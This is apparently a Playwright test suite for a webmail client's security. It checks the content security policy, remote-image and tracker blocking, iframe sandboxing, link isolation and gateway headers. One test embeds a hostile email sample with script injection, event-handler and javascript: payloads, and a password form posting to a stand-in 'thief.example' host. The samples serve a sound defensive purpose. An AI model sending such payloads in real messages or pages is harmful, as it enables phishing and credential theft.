// What a message can't do, and what the gateway tells the browser to forbid.

import { expect, letter, test } from './support/test.ts';

test('nothing breaks the content security policy in an ordinary session', async ({ app, account, other, page, complaints }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await other.append('INBOX', letter({ subject: 'Plain', text: 'Words.' }));
  await other.append('INBOX', letter({ subject: 'Styled', html: '<body bgcolor="#eee" style="margin:0"><style>p{color:green}</style><p style="font-weight:bold">Words.</p>' }));
  await app.signIn(account);
  await app.read('Plain');
  await expect(app.article('Plain')).toBeVisible();
  await app.read('Styled');
  await expect(app.html.getByText('Words.')).toHaveCSS('font-weight', '700');
  if (app.isPhone) await app.backToList();
  await app.openFolder('Archive');
  await app.signOut();
  expect(complaints).toEqual([]);
  expect(asked.filter((address) => !address.startsWith(app.url) && !/^(data|blob|about):/.test(address))).toEqual([]);
});

test('remote pictures are not asked for until somebody wants them', async ({ app, account, other, page, context }) => {
  const asked: string[] = [];
  const pixel = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');
  await context.route('https://*.example/**', async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ contentType: 'image/gif', body: pixel });
  });
  const html =
    '<table background="https://pictures.example/table.png"><tr><td style="background:url(https://pictures.example/cell.png)">Offer</td></tr></table>' +
    '<img src="https://pictures.example/photo.jpg" width="300" height="200" alt="A boat">' +
    '<img src="https://tracker.example/open.gif?u=anna" width="1" height="1"><link rel="stylesheet" href="https://pictures.example/a.css">';
  await other.append('INBOX', letter({ subject: 'Offer of the week', html }));
  await app.signIn(account);
  await app.read('Offer of the week');
  await expect(app.html.getByText('Offer')).toBeVisible();
  const show = page.getByRole('button', { name: 'Show pictures' });
  await expect(show).toBeVisible();
  await expect(page.getByText(/1 tracker stopped|Pictures blocked/).filter({ visible: true })).toBeVisible();
  expect(asked).toEqual([]);
  await show.click();
  await expect.poll(() => asked).toContain('https://pictures.example/photo.jpg');
  expect(asked.join()).not.toContain('tracker.example');
  expect(asked.join()).not.toContain('.css');
});

test('a script in a message does not run, and its forms and links lead nowhere by themselves', async ({ app, account, other, page, complaints }) => {
  const html =
    '<p>Dear customer</p><script>top.document.title = "stolen"; parent.stolen = true</script>' +
    '<img src="data:," onerror="parent.stolen = true"><svg onload="parent.stolen = true"></svg>' +
    '<a href="javascript:parent.stolen = true">Click here</a><form action="https://thief.example/"><input name="password"><button>Send</button></form>' +
    '<meta http-equiv="refresh" content="0;url=https://thief.example/"><iframe src="https://thief.example/"></iframe>';
  await other.append('INBOX', letter({ subject: 'Your account', html }));
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('dialog', (dialog) => {
    asked.push(dialog.message());
    void dialog.dismiss();
  });
  await app.signIn(account);
  await app.read('Your account');
  await expect(app.html.getByText('Dear customer')).toBeVisible();
  await app.html.getByText('Click here').click();
  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
  expect(await page.title()).toMatch(/Samma$/);
  expect(asked.filter((address) => /thief|javascript/.test(address))).toEqual([]);
  // While a message is taken apart the browser may tell what it does not run.
  expect(complaints.filter((complaint) => !complaint.includes('The action has been blocked'))).toEqual([]);
  complaints.splice(0);
  const sandbox = await page.locator('iframe[title="Message body"]').getAttribute('sandbox');
  expect(sandbox).not.toBeNull();
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-top-navigation');
});

test('a link in a message opens a tab that knows nothing of the mailbox', async ({ app, account, other, context }) => {
  await context.route('https://elsewhere.example/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' }));
  await other.append('INBOX', letter({ subject: 'A link', html: '<p><a href="https://elsewhere.example/page">Go there</a></p>' }));
  await app.signIn(account);
  await app.read('A link');
  const opened = context.waitForEvent('page');
  await app.html.getByText('Go there').click();
  const tab = await opened;
  await tab.waitForURL('https://elsewhere.example/page');
  expect(await tab.evaluate(() => [document.referrer, window.opener])).toEqual(['', null]);
});

test('every answer of the gateway carries the headers that browsers enforce', async ({ page, stage }) => {
  for (const path of ['/', '/mail/INBOX', '/config.json', '/sw.js', '/no-such-file.js']) {
    const headers = (await page.request.get(stage.url + path)).headers();
    const policy = headers['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toContain("frame-ancestors 'none'");
    expect(policy, path).not.toMatch(/script-src[^;]*('unsafe-inline'|'unsafe-eval'|https:)/);
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
    });
  }
});
